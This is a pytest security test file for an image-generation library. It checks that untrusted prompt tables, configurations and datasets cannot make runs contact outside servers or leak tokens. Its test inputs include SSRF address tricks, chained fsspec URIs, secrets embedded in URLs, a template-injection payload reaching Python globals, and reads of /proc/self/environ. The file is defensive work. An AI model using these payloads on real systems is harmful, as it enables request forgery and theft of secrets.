"""What strangers write into tables, configurations and datasets reaches nobody and stays secret."""

from __future__ import annotations

import io
import json
import os
import time
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest
from PIL import Image

from rudalle_lib.checks.audit import audit_output
from rudalle_lib.checks.preflight import check_inputs
from rudalle_lib.checks.replay import replay
from rudalle_lib.checks.rescore import rescore_sample
from rudalle_lib.config.run import RunConfig
from rudalle_lib.dataset.manifests import require_run_manifest, write_run_manifest
from rudalle_lib.errors import RudalleError, SettingsError, StorageError, WeightsError
from rudalle_lib.prompts.plan import plan_run, read_shard
from rudalle_lib.schema.records import Reject
from rudalle_lib.storage import urls
from rudalle_lib.storage.bounds import ENDPOINTS, INPUTS, OUTPUTS
from rudalle_lib.storage.storage import Storage
from rudalle_lib.weights.files import resolve_files
from tests.support.finished_run import finish, tiny_config
from tests.support.tiny_stack import write_tiny_stack
from tests.support.web_servers import WebServer, slow_server, web_server

HEADER = "prompt,image_prompt,image_prompt_borders\n"
SECRET = "canary5f1e2d"


@pytest.fixture(scope="module")
def weights(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_tiny_stack(tmp_path_factory.mktemp("strangers") / "weights")


@pytest.fixture
def stranger() -> Iterator[WebServer]:
    """A server that must not be asked, or not be told anything."""
    with web_server() as server:
        buffer = io.BytesIO()
        Image.effect_noise((64, 64), 50).convert("RGB").save(buffer, "PNG")
        server.files["/a.png"] = buffer.getvalue()
        yield server


def configure(folder: Path, models: Path, table: str, **changes: Any) -> RunConfig:
    """A tiny run with this table; `changes` are dumped sections."""
    (folder / "weights").symlink_to(models)
    config = tiny_config(folder, str(folder / "out"), table)
    return RunConfig.model_validate(
        {**config.model_dump(), "upscale": {"model": None}, "generate": {"images": 1}} | changes
    )


def everything(output: str) -> bytes:
    """All files of an output, and the values of its tables, which may be compressed."""
    storage = Storage(output)
    tables = [
        json.dumps(pq.read_table(storage.url(path)).to_pylist(), default=str).encode()
        for path in storage.list()
        if path.endswith(".parquet")
    ]
    return b"\n".join([*map(storage.read_bytes, storage.list()), *tables])


def rejects(output: str) -> list[Reject]:
    storage = Storage(output)
    rows = [row for path in storage.list("rejects") for row in storage.read_table(path).to_pylist()]
    return [Reject(row["reason"], row["detail"]) for row in rows]


# --- rows ----------------------------------------------------------------------------------------


def attacks(url: str) -> list[str]:
    """Image prompts that would make fsspec ask a stranger, or tell it something."""
    host = url.removeprefix("http://")
    port = host.partition(":")[2]
    return [
        f"reference://x.png::{url}/refs.json",
        f"Reference://x.png::{url}/refs.json",
        f"simplecache::{url}/a.png",
        f"filecache::reference://x::{url}/refs.json",
        f"zip://a.png::{url}/a.zip",
        f"blockcache::{url}/a.png",
        f"dir::{url}/a.png",
        f"generic::{url}/a.png",
        f"sftp://{host}/a.png",
        f"ftp://{host}/a.png",
        f"webhdfs://{host}/a.png",
        f"jupyter://{host}/a.png",
        f"github://me:{SECRET}@main/a.png",
        f"git://{host}/a.png",
        f"http://me:{SECRET}@{host}/a.png",
        f"{url}/a.png?token={SECRET}",
        f"http://localhost:{port}/a.png",
        f"http://127.1:{port}/a.png",
        f"http://2130706433:{port}/a.png",
        f"http://0x7f.1:{port}/a.png",
        f"http://[::ffff:127.0.0.1]:{port}/a.png",
        f"http://0:{port}/a.png",
    ]


def test_no_row_makes_a_run_ask_a_stranger(
    tmp_path: Path, weights: Path, stranger: WebServer
) -> None:
    """`reference://` once sent the environment: its templates reach every object of Python."""
    template = "{{ url.__class__.__init__.__globals__ }}"
    references = {"version": 1, "templates": {"u": template}, "refs": {"x.png": ["{{u}}"]}}
    stranger.files["/refs.json"] = json.dumps(references).encode()
    found = attacks(stranger.url)
    rows = "".join(f"круг {number},{uri},up=1\n" for number, uri in enumerate(found))
    config = configure(tmp_path, weights, f"{HEADER}{rows}красный круг,,\n")
    run = finish(config)
    assert stranger.requests == []
    assert run.totals.rejected == {"bad_image_prompt": len(found)} and run.totals.kept == 1
    assert SECRET.encode() not in everything(config.output)
    assert all("\n" not in detail and len(detail) < 500 for _, detail in rejects(config.output))


def test_a_plan_of_a_stranger_is_no_way_around_the_gate(
    tmp_path: Path, weights: Path, stranger: WebServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A plan file can be written by hand, or by an earlier version."""
    uri = f"reference://x.png::{stranger.url}/refs.json"
    config = configure(tmp_path, weights, f"{HEADER}круг,{uri},up=1\n")
    monkeypatch.setattr("rudalle_lib.prompts.cells.check_url", urls.Url)
    storage = Storage(config.output)
    (shard,) = plan_run(config, storage).shards
    assert read_shard(storage, shard)[0].overrides.image_prompt == uri
    run = finish(config)
    assert run.totals.rejected == {"bad_image_prompt": 1} and stranger.requests == []


def test_private_hosts_can_be_allowed_and_signatures_are_stored_nowhere(
    tmp_path: Path, weights: Path, stranger: WebServer
) -> None:
    query = f"X-Amz-Signature={SECRET}&X-Amz-Date=1"
    stranger.query = query
    table = (
        f"{HEADER}круг,{stranger.url}/a.png?{query},up=1\nкрест,{stranger.url}/b.png?{query}x,up=1"
    )
    config = configure(
        tmp_path, weights, table,
        prompts={"uri": str(tmp_path / "prompts.csv"), "allow_private_hosts": True},
    )  # fmt: skip
    run = finish(config)
    assert run.totals.kept == 1 and run.totals.rejected == {"bad_image_prompt": 1}
    assert SECRET.encode() not in everything(config.output)
    storage = Storage(config.output)
    (row,) = (
        row
        for path in storage.list("data/metadata")
        for row in storage.read_table(path).to_pylist()
    )
    assert row["image_prompt"] == f"{stranger.url}/a.png"
    assert replay(storage, row["image_id"], private_hosts=True).identical
    # A renewed signature is the same prompt, and a run of it does nothing.
    renewed = table.replace(SECRET, "renewed")
    (tmp_path / "prompts.csv").write_text(renewed, encoding="utf-8")
    assert plan_run(config, storage, write=False).new_prompts == 0
    with pytest.raises(RudalleError, match="private address"):
        replay(storage, row["image_id"])
    urls._SIGNED.clear()  # as in another process, which has not read the table
    with pytest.raises(RudalleError, match="403 Forbidden; a signature may be missing"):
        replay(storage, row["image_id"], private_hosts=True)


def test_rows_that_would_never_end_are_rejected_in_time(tmp_path: Path, weights: Path) -> None:
    os.mkfifo(tmp_path / "pipe.png")
    head = b"HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\n"
    with slow_server() as silent, slow_server(head, 20) as trickling:
        images = [tmp_path / "pipe.png", (tmp_path / "pipe.png").as_uri(), "/dev/zero",
                  "/proc/self/environ", f"{silent}/a.png", f"{trickling}/a.png"]  # fmt: skip
        rows = "".join(f"круг {number},{uri},up=1\n" for number, uri in enumerate(images))
        table = f"{HEADER}{rows}красный круг,,\n"
        config = configure(
            tmp_path, weights, table,
            prompts={"uri": str(tmp_path / "prompts.csv"), "allow_private_hosts": True,
                     "total_seconds": 1.0},
        )  # fmt: skip
        started = time.monotonic()
        run = finish(config)
        assert time.monotonic() - started < 30
    assert run.totals.kept == 1 and run.totals.rejected == {"bad_image_prompt": len(images)}
    details = [detail for _, detail in rejects(config.output)]
    assert sum("a named pipe" in detail for detail in details) == 2
    assert sum("did not answer in time" in detail for detail in details) == 2


# --- tables and configurations -------------------------------------------------------------------


def test_a_signed_table_is_read_and_its_signature_stored_nowhere(
    tmp_path: Path, weights: Path, stranger: WebServer
) -> None:
    stranger.files["/table.csv"] = "prompt\nкруг\n,\n".encode()
    stranger.query = f"token={SECRET}"
    url = f"{stranger.url}/table.csv?{stranger.query}"
    endpoint = f"{stranger.url}/?sig={SECRET}"
    config = configure(
        tmp_path, weights, "", prompts={"uri": url},
        weights={"folder": str(weights), "endpoint": endpoint, "offline": True},
    )  # fmt: skip
    assert finish(config).totals.kept == 1
    assert SECRET.encode() not in everything(config.output)
    texts = (repr(config), str(config), config.model_dump_json(), json.dumps(config.public_dict()))
    assert not any(SECRET in text for text in texts)
    stranger.query = "other"
    with pytest.raises(StorageError) as raised:
        check_inputs(config)
    assert SECRET not in str(raised.value) and "403" in str(raised.value)


@pytest.mark.parametrize(
    ("variable", "key", "change"),
    [
        (INPUTS, "prompts.uri", {"prompts": {"uri": "/etc/hostname.csv"}}),
        (INPUTS, "prompts.uri", {"prompts": {"uri": "s3://other/x.csv"}}),
        (INPUTS, "weights.folder", {"weights": {"folder": "/etc"}}),
        (OUTPUTS, "output", {"output": "/etc/out"}),
        (OUTPUTS, "output", {"output": "s3://other/out"}),
        (ENDPOINTS, "weights.endpoint", {"weights": {"endpoint": "https://other/"}}),
        (ENDPOINTS, "runtime.ray_address", {"runtime": {"ray_address": "head:6379"}}),
    ],
)
def test_the_environment_bounds_what_a_configuration_names(
    variable: str, key: str, change: dict[str, Any], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    allowed = f"{tmp_path},s3://mine,https://mine,ray://mine:6379"
    for name in (INPUTS, OUTPUTS, ENDPOINTS):
        monkeypatch.setenv(name, allowed)
    base = {"output": str(tmp_path / "out")}
    check_inputs(RunConfig.model_validate(base))  # the demo's table and weights
    with pytest.raises(SettingsError, match=f"^{key} is .*: {variable} does not allow it"):
        check_inputs(RunConfig.model_validate(base | change))


def test_bounds_hold_for_rows_weights_and_links(
    tmp_path: Path, weights: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    inside, outside = tmp_path / "inside", tmp_path / "outside"
    inside.mkdir()
    outside.mkdir()
    for folder in (inside, outside):
        Image.new("RGB", (32, 32)).save(folder / "a.png")
    (inside / "link.png").symlink_to(outside / "a.png")
    names = [inside / "a.png", outside / "a.png", inside / "link.png", inside / "../outside/a.png"]
    rows = "".join(f"круг {number},{path},up=1\n" for number, path in enumerate(names))
    config = configure(inside, weights, HEADER + rows)
    monkeypatch.setenv(INPUTS, f"{inside},{weights}")
    monkeypatch.setenv(OUTPUTS, str(inside / "out"))
    run = finish(config)
    assert run.totals.kept == 1 and run.totals.rejected == {"bad_image_prompt": 3}
    assert all(
        "RUDALLE_ALLOW_INPUTS does not allow" in detail for _, detail in rejects(config.output)
    )
    with pytest.raises(StorageError, match="RUDALLE_ALLOW_OUTPUTS does not allow it; it allows"):
        Storage(str(outside))
    (inside / "elsewhere").symlink_to(outside)
    with pytest.raises(StorageError, match="RUDALLE_ALLOW_OUTPUTS"):
        Storage(str(inside / "elsewhere"))
    monkeypatch.setenv(INPUTS, str(inside))
    from rudalle_lib import registry

    with pytest.raises(SettingsError, match="weights.folder is .*RUDALLE_ALLOW_INPUTS"):
        resolve_files(registry.get("demo-dalle"), config.weights)


# --- datasets ------------------------------------------------------------------------------------


@pytest.fixture
def dataset(
    tmp_path: Path, weights: Path, stranger: WebServer, monkeypatch: pytest.MonkeyPatch
) -> Storage:
    """A dataset whose `run.json` names weights that are not here, on a stranger's server."""
    monkeypatch.setenv("HF_TOKEN", "hf_canary")
    monkeypatch.setattr("huggingface_hub.constants.HF_HUB_CACHE", str(tmp_path / "cache"))
    config = configure(tmp_path, weights, "prompt\nкруг\n")
    finish(config)
    storage = Storage(config.output)
    run = require_run_manifest(storage)
    recorded = json.loads(json.dumps(run.config))
    recorded["weights"] = {"folder": None, "offline": False, "endpoint": stranger.url}
    recorded["score"]["model"] = "ruclip-vit-base-patch32-384"
    names = {**run.weights, "ruclip-vit-base-patch32-384": run.weights["demo-ruclip"]}
    write_run_manifest(storage, replace(run, config=recorded, weights=names))
    return storage


def image_of(storage: Storage) -> str:
    (path,) = storage.list("data/metadata")
    return str(storage.read_table(path).column("image_id")[0])


def test_verify_and_replay_ask_no_server_that_a_dataset_names(
    dataset: Storage, stranger: WebServer
) -> None:
    with pytest.raises(WeightsError, match="downloaded only with the option --fetch-weights"):
        replay(dataset, image_of(dataset))
    audit = audit_output(dataset)
    audit.as_recorded = {manifest.index for manifest in audit.manifests}
    audit.faults.clear()
    rescore_sample(dataset, audit, 4)
    assert any("no score was recomputed: " in n and "--fetch-weights" in n for n in audit.notes)
    assert stranger.requests == []


def test_with_the_option_the_server_is_asked_without_the_token(
    dataset: Storage, stranger: WebServer
) -> None:
    with pytest.raises(WeightsError) as raised:
        replay(dataset, image_of(dataset), fetch_weights=True)
    assert "--fetch-weights" not in str(raised.value)
    audit = audit_output(dataset)
    audit.as_recorded = {manifest.index for manifest in audit.manifests}
    audit.faults.clear()
    with pytest.raises(WeightsError):
        rescore_sample(dataset, audit, 4, fetch_weights=True)
    assert len(stranger.requests) > 1
    assert not any("authorization" in map(str.lower, headers) for headers in stranger.headers)
    assert "hf_canary" not in str(stranger.headers)
